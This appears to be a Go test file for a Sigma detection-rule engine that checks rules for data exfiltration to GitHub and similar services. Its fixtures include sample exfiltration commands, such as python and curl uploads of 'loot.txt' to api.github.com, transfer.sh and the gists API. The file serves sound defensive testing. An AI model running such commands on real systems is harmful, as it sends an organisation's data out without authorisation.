package sigma

import (
	"context"
	"errors"
	"github.com/t1567001/harness/event"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestOwnRuleMetadata(t *testing.T) {
	net, proc := ownRules(t)
	for _, r := range []*Rule{net, proc} {
		assert.Regexp(t, `^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`, r.ID)
		assert.Equal(t, "experimental", r.Status)
		assert.Equal(t, "high", r.Level)
		assert.Contains(t, r.Tags, "attack.exfiltration")
		assert.Contains(t, r.Tags, "attack.t1567.001")
		assert.Contains(t, r.Description, "seed_t1567_001_code_repo_exfil.spl")
		assert.Contains(t, r.Description, "SuspicionScore >= 2")
	}
	assert.NotEqual(t, net.ID, proc.ID)
	assert.Equal(t, "network_connection", net.Logsource.Category)
	assert.Equal(t, "process_creation", proc.Logsource.Category)
	assert.Contains(t, net.Description, "no ParentImage")
}

// TestOwnRule checks the seed equivalent fires exactly where the SPL's
// SuspicionScore >= 2.
func TestOwnRule(t *testing.T) {
	net, proc := ownRules(t)
	pythonPut := `python.exe -c "import requests; requests.put('https://api.github.com/repos/x/y/contents/loot.txt', data=open('loot.txt').read())"`
	tests := []struct {
		name  string
		ev    event.Event
		fires bool
		// explain: substrings of the explanation of rule ("net" or "proc").
		rule    string
		explain []string
	}{
		{
			name: "sysmon3 curl to api.github.com", fires: true, rule: "net",
			ev:      netConnect(workstation, curlExe, "api.github.com"),
			explain: []string{`selection_image: matched (Image|endswith`, `matched "C:\Windows\System32\curl.exe"`, "filter_known_ide: ParentImage|re", "field absent (Sysmon 3 events have no ParentImage)"},
		},
		{
			name: "sysmon1 git push --force to github", fires: true, rule: "proc",
			ev:      procCreate(workstation, gitExe, "git push --force https://github.com/x/y.git", cmdExe),
			explain: []string{"selection_git_push: matched", "signal_git_push_external: matched"},
		},
		{
			name: "sysmon1 python PUT to api.github.com", fires: true, rule: "proc",
			ev:      procCreate(workstation, pythonExe, pythonPut, cmdExe),
			explain: []string{"selection_api_verb: matched", "signal_code_repo_api_upload: matched"},
		},
		{
			name: "sysmon1 powershell Invoke-RestMethod PUT", fires: true, rule: "proc",
			ev: procCreate(workstation, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				`powershell.exe -c "Invoke-RestMethod -Method PUT -Uri https://api.github.com/repos/x/y/contents/a.txt"`, explorerExe),
		},
		{
			name: "sysmon1 curl POST gist", fires: true, rule: "proc",
			ev: procCreate(workstation, curlExe, `curl.exe -X POST -H "Authorization: token x" https://api.github.com/gists -d @c.json`, cmdExe),
		},
		{
			name: "CI host sysmon3", rule: "net",
			ev:      netConnect(ciRunner, curlExe, "api.github.com"),
			explain: []string{`filter_ci_host: matched (Computer|re`, `matched "GITLAB-RUNNER-W03"`},
		},
		{
			name: "CI host git push", rule: "proc",
			ev:      procCreate(ciRunner, gitExe, "git push --force https://github.com/x/y.git", cmdExe),
			explain: []string{`filter_ci_host: matched`},
		},
		{
			name: "CI host python PUT", rule: "proc",
			ev: procCreate(ciRunner, pythonExe, pythonPut, cmdExe),
		},
		{
			name: "sysmon3 from git-remote-https.exe", rule: "net",
			ev:      netConnect(workstation, gitRemoteExe, "github.com"),
			explain: []string{`selection_image: Image|endswith ["\git.exe", "\curl.exe"`, `did not match "` + gitRemoteExe + `"`},
		},
		{
			name: "sysmon1 cmd.exe", rule: "proc",
			ev:      procCreate(workstation, cmdExe, `cmd.exe /c git push https://github.com/x/y.git`, explorerExe),
			explain: []string{`selection_git_image: Image|endswith "\git.exe" did not match "C:\Windows\System32\cmd.exe"`},
		},
		{
			name: "sysmon3 to unrelated host", rule: "net",
			ev:      netConnect(workstation, curlExe, "example.com"),
			explain: []string{`selection_destination: DestinationHostname ["github.com"`, `did not match "example.com"`},
		},
		// The SPL's quirks, kept on purpose.
		{
			name: "quirk: IDE parent cannot filter a sysmon3", fires: true, rule: "net",
			// git.exe spawned by Code.exe: Sysmon 3 carries no ParentImage to filter on.
			ev:      netConnect(workstation, gitExe, "github.com"),
			explain: []string{"Sysmon 3 events have no ParentImage"},
		},
		{
			name: "IDE parent on sysmon1 git push still scores 3", fires: true, rule: "proc",
			ev: procCreate(workstation, gitExe, "git push https://github.com/x/y.git", codeExe),
		},
		{
			name: "quirk: push to dev.azure.com is Signal Unknown", rule: "proc",
			ev:      procCreate(workstation, gitExe, "git push https://dev.azure.com/org/p/_git/r", cmdExe),
			explain: []string{"selection_git_remote: matched", "signal_git_push_external: CommandLine|re|all", "signal_code_repo_api_upload: CommandLine|re"},
		},
		{
			name: "quirk: upper-case PUSH passes the search but not match()", rule: "proc",
			ev: procCreate(workstation, gitExe, "git PUSH https://github.com/x/y.git", cmdExe),
		},
		{
			name: "git pull is not a push", rule: "proc",
			ev: procCreate(workstation, gitExe, "git pull https://github.com/x/y.git", cmdExe),
		},
		{
			name: "4688 git push: the SPL reads Sysmon only", rule: "proc",
			ev:      security4688(workstation, gitExe, "git push --force https://github.com/x/y.git", cmdExe),
			explain: []string{"Security 4688 on WS-FIN-0142 is not in logsource process_creation ← Sysmon 1"},
		},
		{
			name: "file event", rule: "net",
			ev: sysmonEvent(11, workstation, "Image", gitExe, "TargetFilename", `C:\x\github.com`),
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			byName := map[string]*Rule{"net": net, "proc": proc}
			fires := false
			var exp *Explanation
			for name, r := range byName {
				ok, e := mustMatch(t, r, tc.ev)
				fires = fires || ok
				if name == tc.rule {
					exp = e
				}
			}
			assert.Equal(t, tc.fires, fires)
			require.NotNil(t, exp)
			text := exp.String()
			for _, s := range tc.explain {
				assert.Contains(t, text, s)
			}
			if t.Failed() {
				t.Log(text)
			}
		})
	}
}

func TestExplanationNamesFailedField(t *testing.T) {
	net, _ := ownRules(t)
	ok, exp := mustMatch(t, net, netConnect(workstation, gitRemoteExe, "github.com"))
	require.False(t, ok)
	s, found := exp.Search("selection_image")
	require.True(t, found)
	assert.False(t, s.Matched)
	require.Len(t, s.Fields, 1)
	assert.Equal(t, "Image|endswith", s.Fields[0].Key)
	assert.Equal(t, gitRemoteExe, s.Fields[0].Actual)
	assert.True(t, strings.HasPrefix(s.String(), `selection_image: Image|endswith ["\git.exe", `), s.String())
	assert.True(t, strings.HasSuffix(s.String(), ` did not match "`+gitRemoteExe+`"`), s.String())
	d, _ := exp.Search("selection_destination")
	assert.True(t, d.Matched)
}

const ruleHeader = `title: t
id: 11111111-2222-4333-8444-555555555555
status: test
level: low
logsource:
    category: process_creation
    product: windows
`

func TestSecurity4688Mapping(t *testing.T) {
	rule := func(det string) *Rule {
		r, err := Load("inline.yml", []byte(ruleHeader+"detection:\n"+det))
		require.NoError(t, err)
		return r
	}
	ev := security4688("WS-FIN-0142", curlExe, `curl.exe --upload-file loot.txt https://transfer.sh/`, cmdExe)
	tests := []struct {
		name    string
		det     string
		want    bool
		explain string
	}{
		{"Image", "    sel:\n        Image|endswith: '\\curl.exe'\n    condition: sel\n", true, ""},
		{"ParentImage", "    sel:\n        ParentImage: 'C:\\Windows\\System32\\cmd.exe'\n    condition: sel\n", true, ""},
		{"CommandLine", "    sel:\n        CommandLine|contains: ' --upload-file '\n    condition: sel\n", true, ""},
		{"User", "    sel:\n        User: 'CORP\\alice'\n    condition: sel\n", true, ""},
		{"ProcessId", "    sel:\n        ProcessId: 6700\n        ParentProcessId: 4340\n    condition: sel\n", true, ""},
		{"IntegrityLevel", "    sel:\n        IntegrityLevel: Medium\n    condition: sel\n", true, ""},
		{"Hostname", "    sel:\n        Hostname|startswith: 'WS-FIN-'\n        Computer: ws-fin-0142\n    condition: sel\n", true, ""},
		{"ParentCommandLine cannot match", "    sel:\n        ParentCommandLine|contains: 'cmd'\n    condition: sel\n", false,
			`sel: ParentCommandLine|contains "cmd" did not match: field absent (Security 4688 has no ParentCommandLine)`},
		{"OriginalFileName alternative falls back to Image", "    sel:\n        - OriginalFileName: curl.exe\n        - Image|endswith: '\\curl.exe'\n    condition: sel\n", true, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := rule(tc.det)
			require.True(t, r.Applies(ev))
			ok, exp := mustMatch(t, r, ev)
			assert.Equal(t, tc.want, ok, exp.String())
			if tc.explain != "" {
				assert.Contains(t, exp.String(), tc.explain)
			}
		})
	}
}

func TestApplies(t *testing.T) {
	load := func(ls string) *Rule {
		r, err := Load("inline.yml", []byte("title: t\nlogsource:\n"+ls+"detection:\n    sel:\n        Image: x\n    condition: sel\n"))
		require.NoError(t, err, ls)
		return r
	}
	evs := map[string]event.Event{
		"sysmon1":  procCreate(workstation, gitExe, "git", cmdExe),
		"sysmon3":  netConnect(workstation, gitExe, "github.com"),
		"sysmon11": sysmonEvent(11, workstation, "Image", gitExe),
		"sysmon22": sysmonEvent(22, workstation, "Image", gitExe),
		"4688":     security4688(workstation, gitExe, "git", cmdExe),
		"4104":     scriptBlock(workstation, "x"),
		"sysmon5":  sysmonEvent(5, workstation, "Image", gitExe),
		"4663":     {Provider: event.Security, EventID: 4663, Channel: event.SecurityChannel, Computer: workstation},
		"proxy":    {Provider: event.ProxyProvider, Channel: event.ProxyChannel},
		"zeekconn": {Provider: event.ZeekProvider, Channel: event.ZeekConn},
		"zeekssl":  {Provider: event.ZeekProvider, Channel: event.ZeekSSL},
	}
	tests := []struct {
		logsource string
		applies   []string
	}{
		{"    category: process_creation\n    product: windows\n", []string{"sysmon1", "4688"}},
		{"    category: process_creation\n    product: windows\n    service: sysmon\n", []string{"sysmon1"}},
		{"    category: process_creation\n    product: windows\n    service: security\n", []string{"4688"}},
		{"    product: windows\n    service: security\n", []string{"4688", "4663"}},
		{"    category: proxy\n", []string{"proxy"}},
		{"    product: zeek\n    service: conn\n", []string{"zeekconn"}},
		{"    product: zeek\n    service: ssl\n", []string{"zeekssl"}},
		{"    category: network_connection\n    product: windows\n", []string{"sysmon3"}},
		{"    category: file_event\n    product: windows\n", []string{"sysmon11"}},
		{"    category: dns_query\n    product: windows\n", []string{"sysmon22"}},
		{"    category: ps_script\n    product: windows\n", []string{"4104"}},
		{"    product: windows\n    service: sysmon\n", []string{"sysmon1", "sysmon3", "sysmon11", "sysmon22"}},
		{"    product: windows\n    service: powershell\n", []string{"4104"}},
	}
	for _, tc := range tests {
		r := load(tc.logsource)
		for name, ev := range evs {
			assert.Equal(t, contains(tc.applies, name), r.Applies(ev), "%q on %s", tc.logsource, name)
		}
	}
	r := load("    category: network_connection\n    product: windows\n")
	ok, exp := mustMatch(t, r, evs["sysmon1"])
	assert.False(t, ok)
	assert.False(t, exp.Applies)
	assert.Contains(t, exp.String(), "Sysmon 1 on WS-FIN-0142 is not in logsource network_connection ← Sysmon 3")
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

func TestLoadUnsupported(t *testing.T) {
	det := func(d string) string { return ruleHeader + "detection:\n" + d }
	tests := []struct {
		name   string
		yaml   string
		line   int
		reason string
	}{
		{"windash", det("    sel:\n        CommandLine|windash|contains: ' -f '\n    condition: sel\n"), 10,
			`modifier "windash" is not supported by sigma-go v0.6.6 (CommandLine|windash|contains)`},
		{"base64offset", det("    sel:\n        CommandLine|base64offset|contains: 'IEX'\n    condition: sel\n"), 10,
			`modifier "base64offset" is not supported by sigma-go v0.6.6`},
		{"exists", det("    sel:\n        CommandLine|exists: true\n    condition: sel\n"), 10, `modifier "exists" is not supported`},
		{"re flags", det("    sel:\n        CommandLine|re|i: 'x'\n    condition: sel\n"), 10, `modifier "i" is not supported`},
		{"comparator not last", det("    sel:\n        CommandLine|contains|base64: 'x'\n    condition: sel\n"), 10,
			"comparator modifier contains must be the last modifier"},
		{"keywords", det("    keywords:\n        - 'mimikatz'\n    condition: keywords\n"), 9, `keyword search "keywords" is not supported by sigma-go v0.6.6`},
		{"null value", det("    sel:\n        ParentImage: null\n    condition: sel\n"), 10, "null value is not supported"},
		{"placeholder", det("    sel:\n        User: '%admins%'\n    condition: sel\n"), 10, "placeholder %admins%"},
		{"pcre lookahead", det("    sel:\n        CommandLine|re: '(?!x)y'\n    condition: sel\n"), 10, "is not RE2"},
		{"bad cidr", det("    sel:\n        DestinationIp|cidr: '10.0.0.0/33'\n    condition: sel\n"), 10, "invalid CIDR"},
		{"aggregation", det("    sel:\n        Image: x\n    condition: sel | count() by User > 5\n"), 11, "aggregation condition"},
		{"undefined identifier", det("    sel:\n        Image: x\n    condition: sel and not filter\n"), 11, `search identifier "filter" is not defined`},
		{"pattern matching nothing", det("    sel:\n        Image: x\n    condition: sel and not 1 of filter_*\n"), 11, `pattern "filter_*" matches no search identifier`},
		{"1 of identifier", det("    sel:\n        Image: x\n    condition: 1 of sel\n"), 11, `"1 of sel" (one identifier, no wildcard) is not supported`},
		{"condition syntax", det("    sel:\n        Image: x\n    condition: (sel and\n"), 11, `condition "(sel and" does not parse`},
		{"no condition", det("    sel:\n        Image: x\n"), 9, "detection has no condition"},
		{"yaml error", "title: t\nlogsource:\n  product: windows\n detection: [\n", 3, "parse error: did not find expected key"},
		{"not a rule", "title: t\n", 1, "not a Sigma rule"},
		{"empty", "", 0, "empty file"},
		{"collection", "action: global\ntitle: t\nlogsource:\n    product: windows\ndetection:\n    condition: sel\n---\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n", 7,
			"rule collections (several YAML documents, action: global) are not supported by sigma-go v0.6.6"},
		{"linux", "title: t\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n", 0,
			"logsource product linux not rendered by this harness"},
		{"github audit", "title: t\nlogsource:\n    product: github\n    service: audit\ndetection:\n    sel:\n        action: x\n    condition: sel\n", 0,
			"logsource product github not rendered by this harness"},
		{"zeek smtp", "title: t\nlogsource:\n    product: zeek\n    service: smtp\ndetection:\n    sel:\n        mailfrom: x\n    condition: sel\n", 0,
			"not rendered by this harness (Zeek services: conn, dns, http, ssl)"},
		{"windows service", "title: t\nlogsource:\n    product: windows\n    service: dns-client\ndetection:\n    sel:\n        QueryName: x\n    condition: sel\n", 0,
			"logsource product windows service dns-client not rendered by this harness"},
		{"windows category", "title: t\nlogsource:\n    product: windows\n    category: create_stream_hash\ndetection:\n    sel:\n        Contents: x\n    condition: sel\n", 0,
			"logsource product windows category create_stream_hash not rendered by this harness"},
		{"inconsistent service", "title: t\nlogsource:\n    product: windows\n    category: network_connection\n    service: security\ndetection:\n    sel:\n        Image: x\n    condition: sel\n", 0,
			"is inconsistent"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r, err := Load("x.yml", []byte(tc.yaml))
			require.Error(t, err)
			assert.Nil(t, r)
			var u Unsupported
			require.True(t, errors.As(err, &u), "%T", err)
			assert.Equal(t, "x.yml", u.Path)
			assert.Contains(t, u.Reason, tc.reason)
			assert.Equal(t, tc.line, u.Line, u.Error())
			assert.True(t, strings.HasPrefix(err.Error(), "x.yml:"), err.Error())
		})
	}
}

func TestLoadSupportedConstructs(t *testing.T) {
	r, err := Load("x.yml", []byte(ruleHeader+`detection:
    selection_img:
        - Image|endswith: '\curl.exe'
        - OriginalFileName: 'curl.exe'
    selection_cli:
        CommandLine|contains|all:
            - ' -T '
            - 'http'
    selection_b64:
        CommandLine|base64|contains: 'IEX'
    selection_re:
        CommandLine|re: '\s-[FTd]\s'
    filter_local:
        CommandLine|contains: '://localhost'
    condition: 1 of them and all of selection_i* and selection_cli and not 1 of filter_*
`))
	require.NoError(t, err)
	ok, exp := mustMatch(t, r, procCreate(workstation, curlExe, `curl.exe -T loot.txt https://transfer.sh/`, cmdExe))
	assert.True(t, ok, exp.String())
	ok, exp = mustMatch(t, r, procCreate(workstation, curlExe, `curl.exe -T loot.txt http://localhost/`, cmdExe))
	assert.False(t, ok, exp.String())
	assert.Contains(t, exp.String(), `filter_local: matched (CommandLine|contains "://localhost" matched`)
	ok, exp = mustMatch(t, r, procCreate(workstation, curlExe, `curl.exe -O https://transfer.sh/x`, cmdExe))
	assert.False(t, ok)
	assert.Contains(t, exp.String(), `selection_cli: CommandLine|contains|all [" -T ", "http"] did not match "curl.exe -O https://transfer.sh/x"`)
}

func TestMatchCancelled(t *testing.T) {
	net, _ := ownRules(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, _, err := net.Match(ctx, netConnect(workstation, curlExe, "api.github.com"))
	assert.ErrorIs(t, err, context.Canceled)
}

func TestLoadDir(t *testing.T) {
	dir := t.TempDir()
	write := func(name, body string) {
		p := filepath.Join(dir, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(body), 0o644))
	}
	write("a.yml", ruleHeader+"detection:\n    sel:\n        Image: x\n    condition: sel\n")
	write("sub/b.yaml", ruleHeader+"detection:\n    sel:\n        Image|windash: x\n    condition: sel\n")
	write("sub/c.yml", "title: [\n")
	write("notes.txt", "not a rule")
	rules, unsupported, err := LoadDir(dir)
	require.NoError(t, err)
	require.Len(t, rules, 1)
	assert.Equal(t, filepath.Join(dir, "a.yml"), rules[0].Path)
	require.Len(t, unsupported, 2)
	assert.Equal(t, filepath.Join(dir, "sub", "b.yaml"), unsupported[0].Path)
	assert.Contains(t, unsupported[0].Reason, `modifier "windash"`)
	assert.Contains(t, unsupported[1].Reason, "parse error")

	_, _, err = LoadDir(filepath.Join(dir, "missing"))
	assert.Error(t, err)
}

// FuzzLoad: no input makes Load or Match panic.
func FuzzLoad(f *testing.F) {
	f.Add([]byte(ruleHeader + "detection:\n    sel:\n        Image|endswith: x\n    condition: sel\n"))
	f.Add([]byte("detection:\n  condition: all of them | count() > 1\n  timeframe: 1m\n"))
	f.Add([]byte("detection: {a: [1, {b: c}], condition: [a, 'not a']}\nlogsource: {category: process_creation}\n"))
	evs := sampleEvents()
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := Load("fuzz.yml", data)
		if err != nil {
			return
		}
		for _, ev := range evs {
			if _, _, err := r.Match(context.Background(), ev); err != nil {
				t.Fatal(err)
			}
		}
	})
}
